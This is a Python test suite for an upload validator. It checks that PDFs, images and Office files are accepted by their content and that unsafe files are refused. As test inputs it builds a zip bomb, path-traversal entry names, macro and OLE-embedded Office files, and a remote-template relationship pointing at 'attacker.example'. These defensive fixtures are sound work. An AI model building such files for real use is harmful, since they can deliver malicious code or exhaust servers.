import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from prongsai.core.errors import UploadRejected
from prongsai.core.uploads import DOCX, XLSX, check_upload, sniff

MAX = 5 * 1024 * 1024


def office(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buf.getvalue()


CT = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DOC = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
MINIMAL_DOCX = office({"[Content_Types].xml": CT, "word/document.xml": DOC})
MINIMAL_XLSX = office({"[Content_Types].xml": CT, "xl/workbook.xml": b"<workbook/>"})


def check(data: bytes, max_bytes: int = MAX):
    return check_upload(io.BytesIO(data), max_bytes=max_bytes)


@pytest.mark.parametrize(
    "data, content_type",
    [
        (b"%PDF-1.7\n...", "application/pdf"),
        (b"\x89PNG\r\n\x1a\n....", "image/png"),
        (b"\xff\xd8\xff\xe0....", "image/jpeg"),
        (MINIMAL_DOCX, DOCX),
        (MINIMAL_XLSX, XLSX),
    ],
)
def test_allowed_types_by_content(data, content_type):
    assert check(data).content_type == content_type


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "ไฟล์ว่างเปล่า"),
        (b"<html><script>alert(1)</script></html>", "ชนิดไฟล์ไม่อนุญาต"),
        (b"MZ\x90\x00 executable", "ชนิดไฟล์ไม่อนุญาต"),
        (b"GIF89a....", "ชนิดไฟล์ไม่อนุญาต"),
        (b"PK\x03\x04 broken zip", "ZIP เสียหาย"),
        (office({"[Content_Types].xml": CT, "other.xml": b"<x/>"}), "ไม่ใช่ไฟล์ DOCX หรือ XLSX"),
        (office({"word/document.xml": DOC}), "ไม่ใช่ไฟล์ Office"),
    ],
)
def test_refused_types(data, message):
    with pytest.raises(UploadRejected, match=message):
        check(data)


def test_size_limit():
    with pytest.raises(UploadRejected, match="ใหญ่เกิน"):
        check(b"%PDF-" + b"0" * 2000, max_bytes=1000)


def test_zip_bomb_is_refused():
    bomb = office({"[Content_Types].xml": CT, "word/document.xml": b"0" * (50 * 1024 * 1024)})
    assert len(bomb) < 200_000
    with pytest.raises(UploadRejected, match="บีบอัดผิดปกติ"):
        check(bomb)


def test_too_many_entries_refused():
    entries = {"[Content_Types].xml": CT, "word/document.xml": DOC}
    entries.update({f"word/media/{i}.xml": b"" for i in range(2100)})
    with pytest.raises(UploadRejected, match="รายการภายในมากผิดปกติ"):
        check(office(entries))


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/passwd", "word\\..\\x"])
def test_unsafe_entry_names_refused(name):
    with pytest.raises(UploadRejected, match="ชื่อไฟล์ภายในไม่ปลอดภัย"):
        check(office({"[Content_Types].xml": CT, "word/document.xml": DOC, name: b"x"}))


def test_macros_refused():
    with pytest.raises(UploadRejected, match="^ไม่รับไฟล์ที่มีแมโคร$"):
        check(
            office(
                {"[Content_Types].xml": CT, "word/document.xml": DOC, "word/vbaProject.bin": b"x"}
            )
        )
    macro_ct = CT.replace(
        b"/>",
        b"><Default ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>",
    )
    with pytest.raises(UploadRejected, match="^ไม่รับไฟล์ที่มีแมโคร$"):
        check(office({"[Content_Types].xml": macro_ct, "word/document.xml": DOC}))


def test_the_refusal_is_in_english_when_english_is_active(english):
    data = office(
        {"[Content_Types].xml": CT, "word/document.xml": b"x", "word/vbaProject.bin": b""}
    )
    with pytest.raises(UploadRejected, match="^files with macros are not accepted$"):
        check(data)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4096))
def test_fuzz_only_project_errors_and_right_types(data):
    try:
        result = check(data)
    except UploadRejected:
        return
    # Anything accepted really starts with the signature of the type it was given.
    assert sniff(data) == result.content_type
    signatures = {
        "application/pdf": b"%PDF-",
        "image/png": b"\x89PNG",
        "image/jpeg": b"\xff\xd8\xff",
        DOCX: b"PK\x03\x04",
        XLSX: b"PK\x03\x04",
    }
    assert data.startswith(signatures[result.content_type])


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.dictionaries(st.text(min_size=1, max_size=30), st.binary(max_size=200), max_size=6),
    st.sampled_from([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED]),
)
def test_fuzz_zip_containers(entries, compression):
    try:
        data = office(entries, compression)
    except (ValueError, UnicodeEncodeError, IndexError):  # names zipfile itself cannot write
        return
    try:
        result = check(data)
    except UploadRejected:
        return
    names = set(entries)
    assert "[Content_Types].xml" in names
    assert ("word/document.xml" in names) or ("xl/workbook.xml" in names)
    assert not any(".." in n.split("/") for n in names)
    assert result.content_type in (DOCX, XLSX)


REMOTE_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)
EXTERNAL_HYPERLINK = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    b'Target="https://www.nacc.go.th/" TargetMode="External"/></Relationships>'
)


def test_remote_template_refused():
    with pytest.raises(UploadRejected, match="แม่แบบหรือวัตถุภายนอก"):
        check(
            office(
                {
                    "[Content_Types].xml": CT,
                    "word/document.xml": DOC,
                    "word/_rels/settings.xml.rels": REMOTE_TEMPLATE,
                }
            )
        )


def test_embedded_objects_refused():
    with pytest.raises(UploadRejected, match="ฝังวัตถุหรือโปรแกรม"):
        check(
            office(
                {
                    "[Content_Types].xml": CT,
                    "word/document.xml": DOC,
                    "word/embeddings/oleObject1.bin": b"x",
                }
            )
        )


def test_ordinary_hyperlinks_and_printer_settings_accepted():
    docx = office(
        {
            "[Content_Types].xml": CT,
            "word/document.xml": DOC,
            "word/_rels/document.xml.rels": EXTERNAL_HYPERLINK,
        }
    )
    assert check(docx).content_type == DOCX
    xlsx = office(
        {
            "[Content_Types].xml": CT,
            "xl/workbook.xml": b"<workbook/>",
            "xl/printerSettings/printerSettings1.bin": b"x",
        }
    )
    assert check(xlsx).content_type == XLSX
